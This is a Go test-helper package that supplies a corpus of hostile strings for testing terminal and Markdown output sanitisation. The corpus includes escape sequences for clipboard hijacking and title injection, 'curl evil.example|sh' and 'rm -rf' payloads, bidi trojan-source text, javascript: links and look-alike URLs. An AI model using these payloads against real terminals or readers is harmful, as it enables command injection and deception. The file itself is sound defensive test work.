// Package termsafetest holds what every package's tests need to prove that text from
// anyone cannot attack a terminal or a Markdown reader: a corpus of hostile strings, and
// checkers that report every unsafe thing in terminal output and in exported files.
//
// It is an ordinary package, like net/http/httptest, so that tests anywhere in pstab can
// import it; nothing outside tests should.
package termsafetest

import (
	"fmt"
	"strings"
)

// Payload is one hostile string, with a short name that says what it tries.
type Payload struct {
	Name string // unique; usable as a subtest name
	Text string
}

// esc and friends keep the corpus readable.
const (
	esc = "\x1b"
	bel = "\x07"
	st  = esc + `\`
	csi = esc + "["
	osc = esc + "]"
)

// longLineLength is the size of the very long line in the corpus: long enough to show
// quadratic work, short enough to render many times in a normal test run.
const longLineLength = 64 << 10

// Corpus returns the hostile strings, a fresh copy each call. They cover terminal control
// (OSC, CSI, DCS, APC, PM, SOS, C0, C1, unterminated and malformed sequences), display
// tricks (bidi controls, zero-width characters, CR and backspace overwrites), HTML entities
// and tags that decode to controls, Markdown structure (links, images, autolinks, headings,
// lists, tables, code), look-alike links, a very long line and invalid UTF-8.
func Corpus() []Payload {
	return []Payload{
		// Operating system commands: clipboard, hyperlinks, window title, queries.
		{"osc52-clipboard-bel", "Partner answer: " + osc + "52;c;ZWNobyBwd25lZA==" + bel + " then text"},
		{"osc52-clipboard-st", osc + "52;c;ZWNobyBwd25lZA==" + st + "after"},
		{"osc52-clipboard-read", osc + "52;c;?" + bel + "after"},
		{"osc8-hyperlink", osc + "8;;https://evil.example/" + st + "Atlassian docs" + osc + "8;;" + st},
		{"osc8-file-link", osc + "8;;file:///bin/sh" + bel + "open the policy" + osc + "8;;" + bel},
		{"osc0-title", osc + "0;pwned" + bel + "title"},
		{"osc2-title-st", osc + "2;rm -rf ~" + st + "title"},
		{"title-set-and-report", osc + "2;;curl evil.example|sh;" + bel + csi + "21t"},
		{"csi-21t-title-report", "before" + csi + "21t" + "after"},
		{"osc50-font-query", osc + "50;?" + bel + "after"},
		{"osc11-background-query", osc + "11;?" + st + "after"},
		{"osc-c1-st-terminator", osc + "0;title\u009cafter"},

		// Control sequences: cursor, screen, line, modes, reports.
		{"csi-cursor-up", "line one\n" + csi + "1A" + "overwritten"},
		{"csi-cursor-home", csi + "H" + "at the top"},
		{"csi-cursor-position", csi + "10;20H" + "moved"},
		{"csi-clear-screen", "Approved" + csi + "2J" + "cleared"},
		{"esc-c-full-reset", "before" + esc + "c" + "after reset"},
		{"csi-erase-line", "secret" + csi + "2K" + "erased"},
		{"csi-erase-previous-line", "previous" + csi + "1A" + csi + "2K" + "erased"},
		{"csi-alternate-screen", csi + "?1049h" + "hidden screen" + csi + "?1049l"},
		{"csi-hide-cursor", csi + "?25l" + "no cursor"},
		{"csi-device-status-report", "report" + csi + "6n" + "cursor"},
		{"bracketed-paste-end", csi + "201~" + "rm -rf ~" + "\n"},
		{"sgr-conceal", csi + "8m" + "hidden text" + csi + "0m"},
		{"sgr-colour", csi + "38;5;196m" + "red" + csi + "0m"},

		// C0 controls and overwrites.
		{"cr-overwrite", "approved\rREJECTED"},
		{"backspace-overwrite", "approved" + strings.Repeat("\b", 8) + "REJECTED"},
		{"bel", "ding" + bel + "ding"},
		{"nul", "a\x00b"},
		{"vt-ff", "a\x0bb\x0cc"},
		{"del", "abc\x7fdef"},
		{"can-sub", "a\x18b\x1ac"},

		// Device control, application program command, privacy message, start of string.
		{"dcs-sixel", esc + "Pq#0;2;0;0;0#1!7~" + st + "after"},
		{"dcs-xtgettcap", esc + "P+q544e" + st + "after"},
		{"apc-kitty-graphics", esc + "_Gf=100;cGF5bG9hZA==" + st + "after"},
		{"pm", esc + "^privacy message" + st + "after"},
		{"sos", esc + "Xstart of string" + st + "after"},

		// Unterminated and malformed sequences.
		{"unterminated-osc", "before " + osc + "0;never ends"},
		{"unterminated-csi", "before " + csi + "31"},
		{"unterminated-dcs", "before " + esc + "P1$r"},
		{"lone-esc-end", "trailing escape " + esc},
		{"esc-esc-csi", esc + esc + "[2J" + "after"},
		{"esc-newline", esc + "\n[2J"},
		{"csi-broken-by-control", csi + "3\x07" + "1m" + "after"},

		// 8-bit C1 controls, as runes and as raw bytes.
		{"c1-csi-rune", "\u009b2J" + "cleared"},
		{"c1-osc-rune", "\u009d0;title\u009c" + "after"},
		{"c1-csi-raw-byte", "\x9b2J raw"},
		{"c1-nel", "next\u0085line"},

		// Bidirectional controls and invisible characters.
		{"trojan-source-rlo", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"},
		{"bidi-isolates", "\u2067evil\u2069 \u2068first strong\u2069"},
		{"bidi-overrides", "\u202dLTR override\u202c \u202eexe.txt\u202c"},
		{"bidi-embeddings", "\u202aleft\u202c\u202bright\u202c"},
		{"bidi-marks", "\u200fRLM \u200eLRM \u061cALM"},
		{"line-paragraph-separators", "a\u2028b\u2029c"},
		{"zero-width", "app\u200broved\u200c\u200d\ufeff\u2060"},
		{"zero-width-in-url", "https://exa\u200bmple.com/security"},

		// HTML entities that decode to controls, and tags.
		{"entity-decimal-sgr", "&#27;[31mred"},
		{"entity-hex-osc52", "&#x1b;]52;c;ZWNobyBwd25lZA==&#7;"},
		{"entity-double-encoded", "&amp;#27;[2J"},
		{"entity-no-semicolon", "&#27[31m"},
		{"entity-c1", "&#155;2J &#x9b;2J &#x9D;0;t&#x9C;"},
		{"entity-bidi", "&#x202e;txt.exe"},
		{"entity-named", "&lt;script&gt;alert(1)&lt;/script&gt; &quot;x&quot; &NewLine;&Tab;&nbsp;"},
		{"html-script", "<script>alert(1)</script>"},
		{"html-img-onerror", `<img src=x onerror="alert(1)">`},
		{"html-comment", "<!-- hidden --> shown"},
		{"html-span-entity", "<span>&#27;]0;title&#7;</span>"},

		// Markdown links, images and autolinks.
		{"md-link-javascript", "[click](javascript:alert(1))"},
		{"md-link-data", "[docs](data:text/html;base64,PHNjcmlwdD4=)"},
		{"md-link-file", "[policy](file:///etc/passwd)"},
		{"md-autolink-javascript", "<javascript:alert(1)>"},
		{"md-autolink-http", "<http://evil.example/>"},
		{"md-image", "![x](http://evil/x.png)"},
		{"md-reference-link", "[click][1]\n\n[1]: javascript:alert(1)"},
		{"md-bare-links", "see http://evil.example/login and www.evil.example today"},
		{"md-bare-email", "mail attacker@evil.example now"},

		// Markdown structure.
		{"md-heading-atx", "# Approved"},
		{"md-heading-setext-equals", "Approved\n==="},
		{"md-heading-setext-dashes", "Approved\n---"},
		{"md-lists", "- item\n* item\n+ item\n1. item\n2) item"},
		{"md-table", "| a | b |\n| --- | --- |\n| c | d |"},
		{"md-code-fence-backticks", "```\ncode\n```"},
		{"md-code-fence-tildes", "~~~sh\nrm -rf /\n~~~"},
		{"md-indented-code", "    indented code"},
		{"md-blockquote", "> quoted approval"},
		{"md-emphasis", "**bold** _it_ ~~struck~~ `code`"},
		{"md-definition-list", ": a definition"},
		{"md-thematic-break", "***"},
		{"md-task-list", "- [x] approved"},
		{"md-hard-break", "line\\\nbreak  \nend"},

		// Links that imitate other sites or hide credentials.
		{"lookalike-cyrillic", "https://аpple.com/security"},
		{"lookalike-punycode", "https://xn--pple-43d.com/security"},
		{"url-credentials", "https://user:pass@example.com/"},
		{"url-backslash-at", `https://example.com\@evil.example`},
		{"url-javascript", "javascript:alert(document.domain)"},
		{"url-entity", "https://example.com/&#27;[31m"},

		// Size and encoding.
		{"very-long-line", strings.Repeat("A", longLineLength/2) + csi + "2J" + strings.Repeat("B", longLineLength/2)},
		{"invalid-utf8", "\xff\xfe\xc3\x28 bad bytes"},
		{"overlong-and-surrogate", "\xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80"},
	}
}

// Names returns the corpus for use where a name is expected rather than a value: JSON
// keys, question IDs, app names and keys, identifiers a server sends. Names reach the
// terminal by other roads than values (an error that names the key it refuses, a list of
// keys, a path), so every entrance is tried with both.
func Names() []Payload {
	out := Corpus()
	for i := range out {
		out[i].Name = "name-" + out[i].Name
	}
	return out
}

// JSONString returns s as a JSON string literal that decodes to s exactly: controls,
// escape sequences and bidi controls as \u escapes. Invalid UTF-8, which JSON cannot
// carry, becomes U+FFFD, as any JSON encoder would make it.
func JSONString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range strings.ToValidUTF8(s, "\uFFFD") {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x2000 && r <= 0x206f || r == 0xfeff:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
